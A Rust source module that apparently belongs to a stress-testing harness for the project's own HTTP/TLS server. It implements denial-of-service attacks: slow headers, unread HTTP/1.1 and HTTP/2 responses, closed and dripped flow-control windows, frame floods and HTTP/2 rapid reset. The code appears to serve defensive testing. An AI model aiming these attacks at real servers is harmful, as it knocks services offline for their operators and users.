//! Attacks of whoever knows no key, over TCP.

use std::cell::Cell;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncReadExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::client::TlsStream;

use super::Plan;
use super::frames::{
    DATA, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, get, opening, post, say, tcp,
    tls,
};

/// Connections of one address that a node bears with.
const CONNECTIONS: usize = 256;
/// Requests at once on each.
const REQUESTS: u32 = 100;

type Tls = TlsStream<TcpStream>;

/// What all connections of an attack did, counted.
#[derive(Clone, Default)]
pub(super) struct Count(Rc<Cell<u64>>, Rc<Cell<u64>>);

impl Count {
    pub(super) fn add(&self, n: u64) {
        self.0.set(self.0.get() + n);
    }

    pub(super) fn failed(&self) {
        self.1.set(self.1.get() + 1);
    }

    pub(super) fn say(&self, what: &str) -> String {
        format!(
            "{} {what}, {} times turned away or ended",
            self.0.get(),
            self.1.get()
        )
    }
}

/// So many tasks at once that each do the same again and again until the time is over.
pub(super) async fn many<F, W>(plan: Arc<Plan>, n: usize, what: &str, work: W) -> String
where
    F: Future<Output = Option<()>> + 'static,
    W: Fn(Arc<Plan>, Count, usize) -> F + Clone + 'static,
{
    let count = Count::default();
    let mut tasks = JoinSet::new();
    for i in 0..n {
        let (plan, count, work) = (Arc::clone(&plan), count.clone(), work.clone());
        tasks.spawn_local(async move {
            while !plan.over() {
                let left = plan
                    .until
                    .saturating_duration_since(std::time::Instant::now());
                let once = timeout(left, work(Arc::clone(&plan), count.clone(), i)).await;
                if let Ok(None) = once {
                    count.failed();
                    sleep(Duration::from_millis(200)).await;
                }
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    count.say(what)
}

/// Keeps a connection without reading from it, until the node has ended it.
async fn stay(tls: &Tls) -> Option<()> {
    loop {
        sleep(Duration::from_millis(500)).await;
        // What came stays unread: an end alone, or an error, is looked for.
        if let Ok(Some(_)) | Err(_) = tls.get_ref().0.take_error() {
            return None;
        }
        let mut byte = [0];
        match tls.get_ref().0.try_peek_end(&mut byte) {
            true => return None,
            false => continue,
        }
    }
}

trait PeekEnd {
    fn try_peek_end(&self, byte: &mut [u8; 1]) -> bool;
}

impl PeekEnd for TcpStream {
    /// Whether the other side has ended, and nothing lies unread before that.
    fn try_peek_end(&self, byte: &mut [u8; 1]) -> bool {
        let socket = socket2::SockRef::from(self);
        let buf = std::mem::MaybeUninit::new(byte[0]);
        match socket.peek(&mut [buf]) {
            Ok(0) => true,
            Ok(_) => false,
            Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
        }
    }
}

pub(super) async fn unread_h1(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let mut tls = tls(&plan, b"http/1.1").await?;
        let get = "GET /large.bin HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(20);
        say(&mut tls, get.as_bytes()).await.then_some(())?;
        count.add(20);
        stay(&tls).await
    })
    .await
}

async fn asking(plan: Arc<Plan>, count: &Count, window: u32) -> Option<Tls> {
    let mut tls = tls(&plan, b"h2").await?;
    let mut all = opening(window);
    for i in 0..REQUESTS {
        all.extend(get(2 * i + 1, "/large.bin"));
    }
    say(&mut tls, &all).await.then_some(())?;
    count.add(u64::from(REQUESTS));
    Some(tls)
}

pub(super) async fn unread_h2(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let tls = asking(plan, &count, 0x7fff_ffff).await?;
        stay(&tls).await
    })
    .await
}

/// Reads whatever comes, for so long; `None` once the node has ended the connection.
async fn read_for(tls: &mut Tls, time: Duration) -> Option<()> {
    let mut buf = vec![0; 16_384];
    let reading = async {
        loop {
            match tls.read(&mut buf).await {
                Ok(1..) => {}
                Ok(0) | Err(_) => return,
            }
        }
    };
    match timeout(time, reading).await {
        Ok(()) => None,
        Err(_) => Some(()),
    }
}

pub(super) async fn closed_windows(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let mut tls = asking(plan, &count, 0).await?;
        read_for(&mut tls, Duration::from_secs(3600)).await
    })
    .await
}

pub(super) async fn dripped_windows(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let mut tls = asking(plan, &count, 0).await?;
        loop {
            read_for(&mut tls, Duration::from_secs(1)).await?;
            let one = 1_u32.to_be_bytes();
            let all: Vec<u8> = (0..REQUESTS)
                .flat_map(|i| frame(WINDOW_UPDATE, 0, 2 * i + 1, &one))
                .collect();
            say(&mut tls, &all).await.then_some(())?;
        }
    })
    .await
}

pub(super) async fn open_posts(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let mut tls = tls(&plan, b"h2").await?;
        let mut all = opening(65_535);
        for i in 0..REQUESTS {
            all.extend(post(2 * i + 1, "/", &[]));
            all.extend(frame(DATA, 0, 2 * i + 1, &[1]));
        }
        say(&mut tls, &all).await.then_some(())?;
        count.add(u64::from(REQUESTS));
        read_for(&mut tls, Duration::from_secs(3600)).await
    })
    .await
}

pub(super) async fn long_posts(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "requests", |plan, count, _| async move {
        let mut tls = tls(&plan, b"h2").await?;
        say(&mut tls, &opening(65_535)).await.then_some(())?;
        for i in 0..REQUESTS {
            let mut all = post(2 * i + 1, "/", &[]);
            // As much as the least window that a server may begin with has room for.
            for _ in 0..4 {
                all.extend(frame(DATA, 0, 2 * i + 1, &[1; 16_000]));
            }
            say(&mut tls, &all).await.then_some(())?;
            count.add(1);
        }
        read_for(&mut tls, Duration::from_secs(3600)).await
    })
    .await
}

pub(super) async fn slow_heads(plan: Arc<Plan>) -> String {
    many(plan, CONNECTIONS, "bytes", |plan, count, i| async move {
        if i % 2 == 0 {
            // Within TLS' own handshake.
            let tcp = tcp(&plan).await?;
            for byte in [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3] {
                tcp.writable().await.ok()?;
                tcp.try_write(&[byte]).ok()?;
                count.add(1);
                sleep(Duration::from_secs(1)).await;
            }
            return Some(());
        }
        let mut tls = tls(&plan, b"http/1.1").await?;
        for byte in "GET / HTTP/1.1\r\nHost: localhost\r\nx: ".bytes().cycle() {
            say(&mut tls, &[byte]).await.then_some(())?;
            count.add(1);
            sleep(Duration::from_secs(1)).await;
        }
        Some(())
    })
    .await
}

/// Frames that make no progress, as fast as they are taken, on two connections.
async fn flood(plan: Arc<Plan>, first: Vec<u8>, again: Vec<u8>, each: u64) -> String {
    many(plan, 2, "frames", move |plan, count, _| {
        let (first, again) = (first.clone(), again.clone());
        async move {
            let mut tls = tls(&plan, b"h2").await?;
            say(&mut tls, &first).await.then_some(())?;
            loop {
                say(&mut tls, &again).await.then_some(())?;
                count.add(each);
            }
        }
    })
    .await
}

fn thousand(of: &[u8]) -> Vec<u8> {
    of.repeat(1000)
}

pub(super) async fn window_updates(plan: Arc<Plan>) -> String {
    let first = [opening(0), get(1, "/large.bin")].concat();
    // Of a stream: the connection's window is full already.
    let again = thousand(&frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()));
    flood(plan, first, again, 1000).await
}

pub(super) async fn priorities(plan: Arc<Plan>) -> String {
    let again = thousand(&frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 16]));
    flood(plan, opening(65_535), again, 1000).await
}

pub(super) async fn unknown_frames(plan: Arc<Plan>) -> String {
    let again = thousand(&frame(0xb7, 0, 0, &[]));
    flood(plan, opening(65_535), again, 1000).await
}

pub(super) async fn settings(plan: Arc<Plan>) -> String {
    flood(
        plan,
        opening(65_535),
        thousand(&frame(SETTINGS, 0, 0, &[])),
        1000,
    )
    .await
}

pub(super) async fn pings(plan: Arc<Plan>) -> String {
    flood(
        plan,
        opening(65_535),
        thousand(&frame(PING, 0, 0, &[7; 8])),
        1000,
    )
    .await
}

pub(super) async fn resets(plan: Arc<Plan>) -> String {
    many(plan, 2, "requests", |plan, count, _| async move {
        let mut tls = tls(&plan, b"h2").await?;
        say(&mut tls, &opening(65_535)).await.then_some(())?;
        let mut stream = 1;
        loop {
            let mut all = Vec::new();
            for _ in 0..100 {
                all.extend(get(stream, "/large.bin"));
                all.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                stream += 2;
            }
            say(&mut tls, &all).await.then_some(())?;
            count.add(100);
        }
    })
    .await
}
